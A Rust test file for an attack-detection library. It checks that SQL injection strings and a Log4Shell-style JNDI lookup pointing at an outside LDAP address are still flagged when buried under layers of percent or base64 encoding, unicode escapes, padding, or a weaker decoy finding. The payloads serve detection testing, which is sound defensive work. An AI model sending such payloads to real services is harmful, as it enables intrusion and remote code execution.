//! Whatever the threshold: nothing hides behind the bounds of a look, or behind a weaker finding.

use detect::{Families, Family, Finding, Place, inspect};

fn surest(value: &[u8]) -> Option<Finding> {
    inspect(Place::Value, value, Families::NONE)
}

fn is_refused(value: &[u8], threshold: u8) -> bool {
    surest(value).is_some_and(|finding| finding.score >= threshold)
}

fn percent(text: &str, layers: usize) -> String {
    let escape = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    (1..layers).fold(escape(text), |text, _| text.replace('%', "%25"))
}

fn base64(text: &str, layers: usize) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let encode = |text: String| -> String {
        let group = |group: &[u8]| -> String {
            let bits =
                group.iter().fold(0, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - group.len()));
            let digits = (0..=group.len()).filter_map(|digit| DIGITS.get(bits >> (18 - 6 * digit) & 63));
            digits.map(|digit| char::from(*digit)).collect()
        };
        text.as_bytes().chunks(3).map(group).collect()
    };
    (0..layers).fold(text.to_owned(), |text, _| encode(text))
}

#[test]
fn layers_beyond_the_bound_refuse_at_every_threshold() {
    let attack = "1' union select a,b from c -- ";
    for threshold in 1..=10 {
        for layers in 5..=7 {
            let value = percent(attack, layers);
            assert!(is_refused(value.as_bytes(), threshold), "percent {layers} at {threshold}");
        }
        for layers in 4..=6 {
            let value = base64(attack, layers);
            assert!(is_refused(value.as_bytes(), threshold), "base64 {layers} at {threshold}");
        }
    }
    for layers in 1..=3 {
        assert_eq!(surest(percent("a note of mine", layers).as_bytes()), None, "percent {layers}");
        assert_eq!(surest(base64("a note of mine, no more", layers).as_bytes()), None, "base64 {layers}");
    }
}

#[test]
fn more_views_than_the_bound_refuse_at_every_threshold() {
    // Each of three values of forms in one another is long, and has escapes to undo in three rounds.
    let padding = "x".repeat(20_000);
    let found = surest(format!("a=a=a={padding}\\u005cu005cu0041").as_bytes()).unwrap();
    assert_eq!((found.family, found.rule, found.score), (Family::Evasion, "unfolds", 10));
    assert_eq!(surest(format!("a=a={padding}\\u0041").as_bytes()), None);
}

#[test]
fn a_weaker_finding_does_not_end_the_look() {
    let decoy = "1' union select null,null-- ";
    let weaker = surest(decoy.as_bytes()).unwrap();
    assert!((8..10).contains(&weaker.score), "{weaker:?}");
    let apart = ["${jndi:ldap://192.0.2.1/a}", "%24%7Bjndi:ldap://192.0.2.1/a%7D"];
    let padding = "a ".repeat(16 * 1024);
    for lookup in apart {
        for value in [
            format!("{decoy}{lookup}"),
            format!("{decoy}{padding}{lookup}"),
            format!("[\"{decoy}\",\"{lookup}\"]"),
            format!("a={}&b={lookup}", decoy.replace(' ', "+")),
        ] {
            let found = surest(value.as_bytes()).unwrap();
            // In a text it scores one less.
            let score = if value.len() > 200 { 9 } else { 10 };
            assert_eq!((found.family, found.score), (Family::Jndi, score), "{value:.80}");
        }
    }
}

#[test]
fn whoever_leaves_evasion_out_gets_what_is_behind_it_unread() {
    let value = percent("1' union select a,b from c -- ", 6);
    assert_eq!(surest(value.as_bytes()).map(|found| found.family), Some(Family::Evasion));
    assert_eq!(inspect(Place::Value, value.as_bytes(), Families::NONE.with(Family::Evasion)), None);
}
